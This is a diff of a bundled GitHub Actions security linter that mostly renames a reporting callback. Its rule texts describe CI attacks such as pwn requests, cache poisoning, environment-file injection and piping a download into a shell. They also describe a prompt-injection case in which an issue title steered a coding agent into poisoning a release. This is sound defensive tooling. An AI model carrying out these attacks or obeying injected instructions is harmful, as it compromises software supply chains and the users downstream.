         const path = contextPath(node.args[0], { computedIndexAsWildcard: true });
         if (path && path.startsWith("secrets.")) {
-          report({ span: { start: base2 + node.start, end: base2 + node.end }, message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret` });
+          report2({ span: { start: base2 + node.start, end: base2 + node.end }, message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret` });
         }
         return true;
       });
@@ -14074,7 +14138,7 @@ var aiAgentInjection = {
     why: "A model cannot tell the workflow author's instructions from instructions hidden in the text it is given. In Cline (2026), an `issues` workflow passed the issue title to `claude-code-action`, open to non-writers and allowed to run `Bash`; an issue title told the agent to run commands, which poisoned a cache used by the nightly publish and shipped a malicious `cline` release.",
     fix: "Do not put outsider text in the prompt: have the agent read it through a read-only tool, keep the agent to read-only tools (no `Bash`, no `danger-full-access`), keep the default write-access check (no `allowed_non_write_users: '*'`), and give the job `permissions:` no wider than the agent needs, with no secrets other than the model key."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const reportedSteps = /* @__PURE__ */ new Set();
     const factsCache = /* @__PURE__ */ new Map();
     const factsOf = (step, job) => {
@@ -14091,10 +14155,11 @@ var aiAgentInjection = {
       factsCache.set(step, facts);
       return facts;
     };
-    const base2 = file.workflow ? 4 : 3;
+    const kind = file.workflow ? "workflow" : "action";
     for (const site of file.expressions) {
       const path = site.path;
-      if (path.length !== base2 + 2 || path[base2] !== "with" || typeof path[base2 + 1] !== "string") continue;
+      const base2 = stepKeysStart(path, kind);
+      if (base2 === -1 || path.length !== base2 + 2 || path[base2] !== "with" || typeof path[base2 + 1] !== "string") continue;
       if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
       const scope = scopeOf(file, path);
       const step = scope.step;
@@ -14115,7 +14180,7 @@ var aiAgentInjection = {
       const outsider = verdict2.severity === "high";
       const severity = outsider ? severityFor(facts) : "low";
       const confidence = !outsider ? "low" : knownTriggers ? verdict2.confidence : lower(verdict2.confidence);
-      report({
+      report2({
         span: { start: leaf.start, end: leaf.end },
         message: `\`${leaf.path}\` is written into \`${input2}\` of ${facts.repository}, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
         severity,
@@ -14138,7 +14203,7 @@ var aiAgentInjection = {
         const tagMode = DEFAULTS[facts.agent.action]?.tagMode ?? false;
         const triggerText = outsiderTriggers.map((t) => `\`${t}\``).join(", ");
         if (prompts.length === 0 && !promptFile && facts.open && tagMode && facts.openSpan) {
-          report({
+          report2({
             span: facts.openSpan,
             message: `${facts.repository} takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
             severity: facts.tools === "none" ? "low" : "high",
@@ -14150,7 +14215,7 @@ var aiAgentInjection = {
         if (facts.tools === "none") continue;
         const reading = prompts.find((value) => READS_EVENT_TEXT.test(value.text)) ?? promptFile ?? (facts.open ? prompts[0] : void 0);
         if (!reading) continue;
-        report({
+        report2({
           span: usesSpan,
           message: `${facts.repository} runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes in ${OUTSIDER_TRIGGERS_NOTE} may reach the model (${aggravation(facts)}); check that the agent's tools and token cannot do harm`,
           severity: "medium",
@@ -14463,7 +14528,7 @@ var githubEnv = {
     why: "Every line of `GITHUB_ENV` becomes an environment variable of the later steps, and every line of `GITHUB_PATH` a directory searched first for commands. If an attacker chooses part of that text (a branch name with a newline, an artifact or file from a pull request), they set `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or put their directory in front of `PATH`, and run code with the job's secrets. GitHub disabled `::set-env::` in 2020 (CVE-2020-15228) for this reason; the environment files inherited the risk.",
     fix: 'Keep untrusted values out of the environment files: use step outputs (`GITHUB_OUTPUT`) and pass them to later steps through `env:`, validate the value first (`[[ "$V" =~ ^[0-9.]+$ ]]`), or write only literals. When a multi-line value must go to `GITHUB_ENV`, use the `NAME<<DELIMITER` form with a random delimiter.'
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     let severity;
     let context;
     if (file.workflow) {
@@ -14481,7 +14546,7 @@ var githubEnv = {
       const tainted = write.taint.kind === "tainted";
       const confidence = tainted ? "high" : "low";
       const quiet = !file.workflow && !tainted && !(write.taint.kind === "dynamic" && /inputs\./.test(write.taint.what));
-      report({
+      report2({
         span: write.span,
         message: `${how} writes ${describe(write.taint)} to \`${write.target}\` in ${context}: ${write.target === "GITHUB_PATH" ? "later steps look for commands in that directory first" : "later steps run with whatever variables that text sets (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`)"}`,
         severity: tainted ? "high" : quiet ? "low" : severity,
@@ -14612,7 +14677,7 @@ var botConditions = {
     why: "`github.actor` is whoever caused the latest event, not who wrote the pull request. On `pull_request_target` an attacker can open a pull request and get Dependabot to act on it (for example by having it update a branch of their fork), so the latest event's actor is `dependabot[bot]` and the step meant for Dependabot's own pull requests (auto-merge, secrets, a write token) runs for the attacker's code.",
     fix: "Check who opened the pull request instead: `github.event.pull_request.user.login == 'dependabot[bot]'` (the quick fix does this when the workflow has a single pull request or issue trigger), and for Dependabot use `dependabot/fetch-metadata`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     if (!file.workflow) return;
     const triggers = scopeTriggers(file);
     const outsider = triggers ? triggers.filter((trigger) => triggerInfo(trigger)?.outsiderCanFire) : [];
@@ -14659,7 +14724,7 @@ var botConditions = {
         }
         const severity = triggers === null ? "medium" : outsider.length > 0 ? "high" : "low";
         const why = outsider.length > 0 ? `on ${outsider.map((t) => `\`${t}\``).join(", ")} an attacker can make a bot the actor of an event on their own ${outsider.some((t) => t.startsWith("pull_request") || t === "workflow_run") ? "pull request" : "issue or pull request"}` : triggers === null ? "the caller's event decides who the actor is" : "the actor is whoever caused the latest event, not who wrote the code";
-        report({
+        report2({
           span: { start: match.node.start, end: match.node.end },
           message: `\`${actorText}\` is checked against \`${match.bot}\`: ${why}, so this condition ${dominating ? "passes" : "can pass"} for their code${single ? `; compare \`${match.actor.kind === "login" ? single.login : single.id}\` instead` : ""}`,
           severity,
@@ -14712,7 +14777,7 @@ var unpinnedUses = {
     why: "In March 2025 every tag of `tj-actions/changed-files` (CVE-2025-30066) was moved to a commit that dumped the runner's memory into the build log, exposing the secrets of thousands of repositories; it came in through `reviewdog/action-setup@v1`, whose tag had been moved too (CVE-2025-30154). In 2026 the tags of `aquasecurity/trivy-action` were force-pushed the same way. Only a full commit SHA is immutable.",
     fix: "Pin to the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`, so updaters such as Dependabot and Renovate keep it current."
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const snapshot = snapshotOf(file);
     for (const site of file.uses) {
       const reference = site.reference;
@@ -14725,7 +14790,7 @@ var unpinnedUses = {
       const fixes = plan?.ok ? [plan.fix] : [];
       const span = site.exact ? { start: site.valueStart + reference.refStart, end: site.valueStart + reference.refEnd } : site.entry.valueSpan;
       if (reference.ref === null || reference.ref === "") {
-        report({
+        report2({
           span: site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan,
           message: `\`${target}\` has no ref: name a full commit SHA, e.g. \`${target}@<40-hex sha> # vX.Y.Z\``
         });
@@ -14733,24 +14798,24 @@ var unpinnedUses = {
       }
       switch (reference.refKind) {
         case "short-sha":
-          report({
+          report2({
             span,
             message: `\`${target}@${reference.ref}\` uses an abbreviated SHA, which is not a pin: an attacker can push a colliding commit. Use the full 40-character SHA`,
             fixes
           });
           break;
         case "expression":
-          report({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
+          report2({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
           break;
         case "branch-like":
-          report({
+          report2({
             span,
             message: `${what} \`${target}\` is pinned to \`${reference.ref}\`, a branch or tag that can move to other code: pin it to a full commit SHA`,
             fixes
           });
           break;
         default:
-          report({
+          report2({
             span,
             message: `${what} \`${target}\` is pinned to tag \`${reference.ref}\`, which can be moved to other code: pin it to a full commit SHA`,
             fixes
@@ -14761,7 +14826,7 @@ var unpinnedUses = {
 };
 
 // server/src/rules/impostor-commit.ts
-function checkImpostorCommit({ file, report }, snapshot) {
+function checkImpostorCommit({ file, report: report2 }, snapshot) {
   if (!snapshot || snapshot.offline) return;
   for (const site of file.uses) {
     const uses = resolvableRemote(site);
@@ -14770,7 +14835,7 @@ function checkImpostorCommit({ file, report }, snapshot) {
     if (membership?.status !== "impostor") continue;
     const start = site.exact ? site.valueStart + uses.refStart : site.entry.valueSpan.start;
     const end = site.exact ? site.valueStart + uses.refEnd : site.entry.valueSpan.end;
-    report({
+    report2({
       span: { start, end },
       message: `Commit ${uses.ref} is not on any branch or tag of ${uses.repository} (compared with ${membership.checked} refs): it comes from a fork, and \`${usesTarget(uses)}\` runs the fork's code`
     });
@@ -14794,7 +14859,7 @@ var impostorCommit = {
 };
 
 // server/src/rules/ref-confusion.ts
-function checkRefConfusion({ file, report }, snapshot) {
+function checkRefConfusion({ file, report: report2 }, snapshot) {
   if (!snapshot || snapshot.offline) return;
   for (const site of file.uses) {
     const uses = resolvableRemote(site);
@@ -14806,7 +14871,7 @@ function checkRefConfusion({ file, report }, snapshot) {
     const same = found.tag.commit === found.branch.commit;
     const start = site.exact ? site.valueStart + uses.refStart : site.entry.valueSpan.start;
     const end = site.exact ? site.valueStart + uses.refEnd : site.entry.valueSpan.end;
-    report({
+    report2({
       span: { start, end },
       message: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository}${same ? " (today on the same commit)" : ` (tag ${found.tag.commit.slice(0, 12)}…, branch ${found.branch.commit.slice(0, 12)}…)`}: \`${usesTarget(uses)}@${uses.ref}\` runs the branch, whatever the tag says`,
       confidence: same ? "medium" : "high"
@@ -14831,7 +14896,7 @@ var refConfusion = {
 };
 
 // server/src/rules/ref-version-mismatch.ts
-function checkRefVersionMismatch({ file, report }, snapshot) {
+function checkRefVersionMismatch({ file, report: report2 }, snapshot) {
   if (!snapshot || snapshot.offline) return;
   for (const site of file.uses) {
     const uses = resolvableRemote(site);
@@ -14848,7 +14913,7 @@ function checkRefVersionMismatch({ file, report }, snapshot) {
       if (!bestTag) continue;
       if (commentNamesRef(file, site, refs.value, sha)) continue;
       const edits = pinEdits(file, site, uses, sha, bestTag);
-      report({
+      report2({
         span: site.entry.valueSpan,
         message: `\`${target}@${sha.slice(0, 12)}…\` has no version comment; it is \`${bestTag}\``,
         severity: "low",
@@ -14871,7 +14936,7 @@ function checkRefVersionMismatch({ file, report }, snapshot) {
       const edits = pinEdits(file, site, uses, tag.commit, claimed.text);
       if (edits) fixes.push({ title: `Re-pin to ${claimed.text} (${tag.commit.slice(0, 12)}…)`, isPreferred: false, safety: "unsafe", edits });
     }
-    report({
+    report2({
       span: claimed.span,
       message: `The comment says \`${claimed.text}\` but \`${claimed.text}\` ${where} of \`${target}\`${bestTag ? `; the pinned commit is \`${bestTag}\`` : "; no tag points at the pinned commit"}`,
       related: [{ span: site.entry.valueSpan, message: `pinned commit ${sha}` }],
@@ -14905,7 +14970,7 @@ function commentNamesRef(file, site, refs, sha) {
 }
 
 // server/src/rules/stale-action-refs.ts
-function checkStaleActionRefs({ file, report }, snapshot) {
+function checkStaleActionRefs({ file, report: report2 }, snapshot) {
   if (!snapshot || snapshot.offline) return;
   for (const site of file.uses) {
     const uses = resolvableRemote(site);
@@ -14915,7 +14980,7 @@ function checkStaleActionRefs({ file, report }, snapshot) {
     if (tagsAt(refs.value, uses.ref).length > 0) continue;
     const start = site.exact ? site.valueStart + uses.refStart : site.entry.valueSpan.start;
     const end = site.exact ? site.valueStart + uses.refEnd : site.entry.valueSpan.end;
-    report({
+    report2({
       span: { start, end },
       message: `No tag of ${uses.repository} points at ${uses.ref.slice(0, 12)}…: \`${usesTarget(uses)}\` runs unreleased code`
     });
@@ -15315,7 +15380,7 @@ var adhocPackages = {
     why: "An unpinned install is the moment a compromised release reaches you. In LiteLLM (2026, PYSEC-2026-2) the job holding the PyPI credential ran an unpinned `apt-get install trivy` hours after Trivy's release channel was taken over (CVE-2026-33634); the scanner stole the credential and malicious LiteLLM versions followed. Shai-Hulud (2025) spread through `npm install` of freshly published worm versions.",
     fix: "Pin every package (`pip install ruff==0.6.9`, `npm install -g pnpm@9.12.0`, `go install golang.org/x/tools/cmd/goimports@v0.26.0`, `gem install bundler -v 2.5.22`, `apt-get install jq=1.7.1-3`), better with hashes (`pip install --require-hashes -r requirements.txt`), or use a lock file (`npm ci`, `uv sync --locked`). Keep such installs out of jobs that hold publish credentials."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const run2 of runScripts(file)) {
       let credentials;
       for (const command of run2.script.commands) {
@@ -15324,7 +15389,7 @@ var adhocPackages = {
         if (credentials === void 0) credentials = publishCredentials(file, run2.job);
         const names = install.packages.map((word) => `\`${word.text}\``);
         const span = run2.sourceSpan({ start: install.packages[0].span.start, end: install.packages[install.packages.length - 1].span.end });
-        report({
+        report2({
           span,
           message: `\`${install.manager}\` installs ${names.slice(0, 4).join(", ")}${names.length > 4 ? "…" : ""} without a version${credentials ? `, in a job holding publish credentials (${credentials})` : ""}: every run takes whatever the registry serves`,
           severity: credentials ? "medium" : "low",
@@ -15352,7 +15417,7 @@ var artifactPoisoning = {
     why: 'Artifacts uploaded by a `pull_request` run contain whatever the pull request wanted. A `workflow_run` job that downloads them into its workspace lets them overwrite scripts, configuration or `node_modules` of the trusted checkout, and then runs them with the repository\'s secrets. GitHub Security Lab documented the pattern ("Keeping your GitHub Actions and workflows secure Part 1", 2021), and CodeQL ships `actions/artifact-poisoning` queries for it.',
     fix: "Download into a fresh directory outside the workspace (`path: ${{ runner.temp }}/artifacts`), treat every file as untrusted data (validate a PR number with a regular expression, never `source` or execute it), and never extract archives over the checkout."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const triggers = privilegedTriggers(workflow, TRIGGERS2);
@@ -15382,7 +15447,7 @@ var artifactPoisoning = {
       for (const download of downloads) {
         const use = laterUse(scripts, download);
         if (download.path !== null && !use) continue;
-        report({
+        report2({
           span: download.span,
           message: download.path === null ? `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root, over the trusted checkout; a fork pull request controls their content` : `${download.what} in \`${triggers[0]}\` job \`${job.id}\` fetches the triggering run's artifacts and ${use.what} them; a fork pull request controls their content`,
           confidence: "medium",
@@ -15534,7 +15599,7 @@ var artipacked = {
     why: 'In "ArtiPACKED" (Palo Alto Unit 42, 2024) public repositories of Google, Microsoft, AWS, Red Hat and others uploaded their whole workspace as an artifact: `.git/config` inside it held the `GITHUB_TOKEN` (and sometimes a PAT) that `actions/checkout` had persisted, and anyone could download the artifact and race the job to use the token. Astral sets `persist-credentials: false` on every checkout (uv: 132 of 132).',
     fix: "Add `persist-credentials: false` under the checkout's `with:`. A later step that really needs to push can pass the token explicitly (e.g. `git push https://x-access-token:${GH_TOKEN}@github.com/...` with `GH_TOKEN` in that step's `env:`)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     let gitSteps;
     const gitRemote = () => gitSteps ??= gitRemoteSteps(file);
     const laterOf = /* @__PURE__ */ new Map();
@@ -15552,7 +15617,7 @@ var artipacked = {
       const related2 = upload ? [{ span: upload.uses.valueSpan, message: "uploads the workspace, .git/config included" }] : [];
       if (value !== null && value.trim().toLowerCase() === "false") continue;
       if (value !== null && value.trim().toLowerCase() === "true") {
-        report({
+        report2({
           span: persist.valueSpan,
           message: `\`persist-credentials: true\` keeps the token in the checkout for every later step${upload ? ", and a later step uploads the workspace" : ""}`,
           severity: upload ? "high" : "low",
@@ -15563,14 +15628,14 @@ var artipacked = {
         continue;
       }
       if (value !== null) {
-        report({ span: persist.valueSpan, message: "`persist-credentials` is computed; when it is true the token stays in .git/config", severity: "low", confidence: "low", persona: "pedantic", related: related2 });
+        report2({ span: persist.valueSpan, message: "`persist-credentials` is computed; when it is true the token stays in .git/config", severity: "low", confidence: "low", persona: "pedantic", related: related2 });
         continue;
       }
       let severity = upload ? "high" : "medium";
       if (modern) severity = LOWER[severity];
       const pushes = !upload && later.pushAfter(step.index);
       const where = modern ? "a credentials file the git config points to" : "`.git/config`";
-      report({
+      report2({
         span,
         message: upload ? `\`${action.site.value}\` persists the token in ${where} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where}, readable by every later step; add \`persist-credentials: false\``,
         severity: pushes ? "low" : severity,
@@ -15846,7 +15911,7 @@ var cachePoisoning = {
     why: "Caches are shared across a repository's runs: whoever can write an entry that the release job restores controls what gets built. In Ultralytics (2024) a poisoned cache went into the PyPI releases 8.3.41/42; in TanStack (2026, CVE-2026-45321) a `pull_request_target` build wrote the cache the release job restored, and 84 npm versions shipped with valid provenance. Cline (2026) was poisoned the same way through its nightly publish.",
     fix: "Turn caching off in release and publish jobs (`enable-cache: false` for setup-uv, `cache: false` for setup-go, no `cache:` / `package-manager-cache: false` for setup-node, `ACTIONS_CACHE_MODE: none` in the job's `env:` for actions built on `@actions/cache` ≥ 6.2.0), and never build pull request code in a `pull_request_target` job."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const privileged = privilegedTriggers(workflow);
@@ -15874,7 +15939,7 @@ var cachePoisoning = {
         const fixes = offFix(file, step, known, value, enabled);
         const related2 = signals.slice(0, 3).map((signal) => ({ span: signal.span, message: `publishes: ${signal.what}` }));
         if (untrusted.length > 0 && known.mode !== "restore") {
-          report({
+          report2({
             span,
             message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
             severity: "high",
@@ -15886,7 +15951,7 @@ var cachePoisoning = {
         }
         if (signals.length === 0 || known.mode === "save") continue;
         const how = enabled === true ? "restores a cache" : enabled === "conditional" ? "may restore a cache (on by default when a lock file is found)" : "may restore a cache (caching is set by an expression)";
-        report({
+        report2({
           span,
           message: `\`${action.name}\` ${how} in job \`${job.id}\`, which publishes (${signals.map((signal) => signal.what).slice(0, 2).join(", ")}): a poisoned cache entry ends up in the release`,
           confidence: strong && enabled === true ? "medium" : "low",
@@ -15922,7 +15987,7 @@ var secretsInherit = {
     why: "A reusable workflow that is compromised, or whose ref moves (as the tags of tj-actions/changed-files did in 2025, CVE-2025-30066), receives all of the caller's secrets at once. GhostAction (2025) exfiltrated 3,325 secrets from 817 repositories: each secret a workflow can reach is one more to lose.",
     fix: "Pass only the secrets the called workflow declares under `on.workflow_call.secrets`, e.g. `secrets: { PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }} }`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     for (const job of workflow.jobs) {
@@ -15930,7 +15995,7 @@ var secretsInherit = {
       if (!secrets || scalarText(secrets.value) !== "inherit") continue;
       const target = scalarText(job.uses?.value ?? null) ?? "the called workflow";
       const local = target.startsWith("./") || target.startsWith("$/");
-      report({
+      report2({
         span: secrets.valueSpan,
         message: `job \`${job.id}\` passes every repository and organisation secret to \`${target}\`${local ? " (a workflow of this repository)" : ""}; pass only the secrets it declares`,
         severity: local ? "low" : "medium"
@@ -15952,7 +16017,7 @@ var secretsOutsideEnv = {
     why: "Secrets stored in a deployment environment are released only to jobs that name it, and only after its protection rules (required reviewers, allowed branches and tags) pass. In Nx s1ngularity (2025) and elementary-data (2026) a dispatchable or injectable workflow read publishing tokens straight from repository secrets; at spotbugs (2024) and Trivy (2026) the PAT sat in a `pull_request_target` job. Astral keeps every secret in an environment.",
     fix: "Move the secret into an environment (Settings → Environments) with required reviewers or a branch/tag rule, and add `environment: <name>` to the job. Secrets that are harmless can be listed in the rule's `allow` configuration."
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     if (workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.name === "workflow_call")) return;
@@ -15965,7 +16030,7 @@ var secretsOutsideEnv = {
       const references = secretReferences(file, job.span).filter((secret) => !allow.has(secret.name.toUpperCase()));
       if (references.length === 0) continue;
       const names = [...new Set(references.map((secret) => secret.name === "*" ? "a computed secret" : `\`${secret.name}\``))];
-      report({
+      report2({
         span: references[0].span,
         message: `job \`${job.id}\` uses ${names.length === 1 ? "secret" : "secrets"} ${names.slice(0, 4).join(", ")}${names.length > 4 ? ` and ${names.length - 4} more` : ""} without an \`environment:\`: they are available to any run of this job, with no reviewer or branch rule`,
         related: references.slice(1, 8).map((secret) => ({ span: secret.span, message: `secret \`${secret.name}\`` }))
@@ -15988,7 +16053,7 @@ var selfHostedRunner = {
     why: "Self-hosted runners are not wiped between jobs: code from one run can leave a backdoor for the next and reach whatever the machine can reach. The Shai-Hulud 2 worm (2025) registered victims' machines as self-hosted runners and drove them with a `discussion` workflow; Praetorian's and John Stawinski's 2024 research took over PyTorch's release infrastructure through fork pull requests running on its self-hosted runners.",
     fix: "Use GitHub-hosted runners for anything an outsider can trigger; require approval for fork pull requests from all outside contributors; run self-hosted runners as ephemeral (`--ephemeral`, one job per VM) in a runner group restricted to specific private repositories and workflows."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const outsider = workflow.triggers.map((trigger) => trigger.name).filter((name) => OUTSIDER.includes(name));
@@ -15999,7 +16064,7 @@ var selfHostedRunner = {
       if (!hit) continue;
       const exposed = outsider.length > 0;
       const forkCode = outsider.includes("pull_request") || outsider.includes("pull_request_target");
-      report({
+      report2({
         span: hit.span,
         message: exposed ? `job \`${job.id}\` runs on ${hit.what} and \`${outsider[0]}\` lets ${triggerInfo(outsider[0])?.firedBy ?? "outsiders"} start it: a non-ephemeral runner can be backdoored` : `job \`${job.id}\` runs on ${hit.what}; make sure the runner is ephemeral and restricted to this repository`,
         severity: exposed ? forkCode ? "high" : "medium" : "medium",
@@ -16071,7 +16136,7 @@ var unpinnedTools = {
     why: "In Trivy #2 (2026, CVE-2026-33634) the release channel of trivy was taken over: workflows that had pinned `aquasecurity/setup-trivy` or `trivy-action` to a commit still downloaded the malicious trivy 0.69.4, because the action defaulted to the latest release. `reviewdog/action-setup` (CVE-2025-30154) had the same `reviewdog_version: latest` default.",
     fix: "Set the version input to an exact release (`version: v0.69.3`, `reviewdog_version: v0.20.3`), and let Dependabot/Renovate propose updates with a cooldown."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const { job, step } of allSteps(file)) {
       const action = stepAction(file, step);
       const tool = action && TOOL_ACTIONS[action.name];
@@ -16083,7 +16148,7 @@ var unpinnedTools = {
       if (!(latest || absent && tool.absentIsLatest || absent && !tool.absentIsLatest)) continue;
       const credentials = publishCredentials(file, job);
       const certain = latest || tool.absentIsLatest;
-      report({
+      report2({
         span: entry ? entry.valueSpan : action.site.entry.valueSpan,
         message: `\`${action.name}\` installs ${latest ? `\`${value.trim() || "latest"}\`` : "the latest (or the action's default)"} ${tool.tool}${absent ? ` (no \`${tool.input}:\`)` : ""}: pinning the action does not pin the tool${credentials ? `, in a job holding publish credentials (${credentials})` : ""}`,
         severity: credentials ? "high" : certain ? "medium" : "low",
@@ -16108,7 +16173,7 @@ var untrustedCheckout = {
     why: 'This is the "pwn request". At spotbugs (2024) a `pull_request_target` workflow checked out `refs/pull/N/merge` and ran Maven with a maintainer PAT in the environment; the stolen PAT led to reviewdog and then to tj-actions/changed-files. PostHog (2025) ran a script from the pull request with a bot PAT that published to npm; Trivy (2026, hackerbot-claw) ran `uses: ./.github/actions/setup-go` from the checked-out pull request with an org PAT; the prt-scan wave (2026) opened mass pull requests against workflows that ran `npm install` on the head commit.',
     fix: "Build pull requests under `pull_request` (no secrets, read-only token for forks). If results must be posted back, upload them as an artifact and let a separate `workflow_run` job post them without checking out or executing anything from the pull request. If a privileged job really must look at the code, check it out into a subdirectory and only read it as data."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const triggers = privilegedTriggers(workflow, TRIGGERS3);
@@ -16126,7 +16191,7 @@ var untrustedCheckout = {
         ].filter((part) => part !== null);
         const first = executions[0];
         const guarded = job.environment || /label|author_association|permission/i.test(scalarText(job.if?.value ?? null) ?? "");
-        report({
+        report2({
           span: first.span,
           message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how} under \`${triggers.join("`/`")}\`${reach.length > 0 ? `, with ${reach.join(" and ")} in reach` : " (the job's cache and artifacts are in reach)"}`,
           severity: reach.length > 0 ? "high" : "medium",
@@ -16236,7 +16301,7 @@ var unverifiedDownload = {
     why: "A SHA-pinned action is immutable; what it downloads is not. In LiteLLM (2026, PYSEC-2026-2) the publishing job ran `curl …/main/install.sh | sh` and installed a scanner whose release had been replaced, which stole the PyPI credential. Codecov's bash uploader (2021) was altered at its download URL and exfiltrated CI secrets for two months. Astral calls this the gap no tool covers: download, then `sha256sum -c` against a pinned checksum.",
     fix: 'Pin the version in the URL and verify it before use: `echo "<sha256>  tool.tar.gz" | sha256sum -c -` (or `gh attestation verify`, `cosign verify-blob`, `minisign -V`, `gpg --verify`). Never pipe a download into a shell. Record known hashes in the rule\'s `checksums` map (URL or URL pattern with `*` → sha256) to get a quick fix that inserts the check.'
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const jobs = file.workflow ? file.workflow.jobs : file.action ? [null] : [];
     for (const job of jobs) {
       const scripts = runScriptsOf(file, job);
@@ -16249,7 +16314,7 @@ var unverifiedDownload = {
           else if ((name === "pip" || name === "pip3" || name.startsWith("python") && command.argv[2]?.text === "pip") && args(command).some((word) => word.text === "install")) {
             const target = args(command).find((word) => /^(https?:\/\/|git\+)/.test(word.text));
             if (target && !/#sha256=|--require-hashes/.test(run2.script.text) && !/@[0-9a-f]{40}/.test(target.text)) {
-              report({ span: run2.sourceSpan(target.span), message: `\`pip install\` installs \`${target.text}\` straight from a URL, with no hash: whoever controls that URL controls the install`, severity: "medium", confidence: "medium" });
+              report2({ span: run2.sourceSpan(target.span), message: `\`pip install\` installs \`${target.text}\` straight from a URL, with no hash: whoever controls that URL controls the install`, severity: "medium", confidence: "medium" });
             }
             continue;
           }
@@ -16259,18 +16324,18 @@ var unverifiedDownload = {
           const next = pipedInto(run2.script, command);
           if (next) {
             if (SHELLS.has(next.name) || next.name === "sudo" && SHELLS.has(next.argv[0]?.text ?? "")) {
-              report({ span, message: `\`${url}\` is downloaded and piped straight into \`${next.name}\`: whoever controls that URL (or its release) runs code in this job`, severity: "high", confidence: "high", related: [{ span: run2.sourceSpan(next.span), message: "executes the download" }] });
+              report2({ span, message: `\`${url}\` is downloaded and piped straight into \`${next.name}\`: whoever controls that URL (or its release) runs code in this job`, severity: "high", confidence: "high", related: [{ span: run2.sourceSpan(next.span), message: "executes the download" }] });
               continue;
             }
             if (EXTRACT.has(next.name) && !verified(scripts, download)) {
-              report({ span, message: `\`${url}\` is downloaded and extracted (\`${next.name}\`) with no checksum or signature check`, severity: "medium", confidence: "medium", related: [{ span: run2.sourceSpan(next.span), message: "extracts the download" }] });
+              report2({ span, message: `\`${url}\` is downloaded and extracted (\`${next.name}\`) with no checksum or signature check`, severity: "medium", confidence: "medium", related: [{ span: run2.sourceSpan(next.span), message: "extracts the download" }] });
             }
             continue;
           }
           if (command.inSubstitution) {
             const outer = run2.script.commands.find((other) => !other.inSubstitution && other.span.start <= command.span.start && other.span.end >= command.span.end);
             if (outer && SHELLS.has(outer.name)) {
-              report({ span, message: `\`${url}\` is downloaded and executed by \`${outer.name}\` in one go: whoever controls that URL runs code in this job`, severity: "high", confidence: "high" });
+              report2({ span, message: `\`${url}\` is downloaded and executed by \`${outer.name}\` in one go: whoever controls that URL runs code in this job`, severity: "high", confidence: "high" });
             }
             continue;
           }
@@ -16285,7 +16350,7 @@ var unverifiedDownload = {
             const at = lineIndex.lineContentEnd(endLine);
             fixes.push({ title: `Verify ${download.file} against its recorded sha256`, isPreferred: true, safety: "safe", edits: [{ span: { start: at, end: at }, newText: `${lineIndex.eol}${indent}echo "${hash}  ${download.file}" | sha256sum -c -` }] });
           }
-          report({
+          report2({
             span,
             message: `\`${url}\` is downloaded${download.file ? ` to \`${download.file}\`` : ""} and then ${PAST[use.what] ?? use.what}, with no checksum or signature check${hash ? " (its sha256 is recorded in the configuration)" : ""}`,
             severity: use.what === "executes" || use.what === "installs" || use.what === "makes executable" ? "high" : "medium",
@@ -16314,7 +16379,7 @@ var useTrustedPublishing = {
     why: "A stored publish token works from anywhere until someone revokes it. Nx s1ngularity (2025) and elementary-data (2026) lost `NPM_TOKEN` / PyPI passwords from injectable workflows; LiteLLM (2026, PYSEC-2026-2) had its PyPI credential stolen by a compromised scanner running in the publishing job; Ultralytics (2024) saw 8.3.45/46 published with a stolen token after the Trusted Publishing path was closed. With Trusted Publishing there is no token to steal: the registry trusts this repository, workflow and environment only for minutes.",
     fix: "Register the workflow as a trusted publisher on the registry, grant the job `permissions: id-token: write`, run it in a protected `environment:`, and drop the token: `pypa/gh-action-pypi-publish` without `password`, `uv publish` / `twine` via the OIDC exchange, `npm publish --provenance` with npm ≥ 11.5, `rust-lang/crates-io-auth-action`, `rubygems/release-gem`, NuGet's `NuGet/login`."
   },
-  check({ file, report }) {
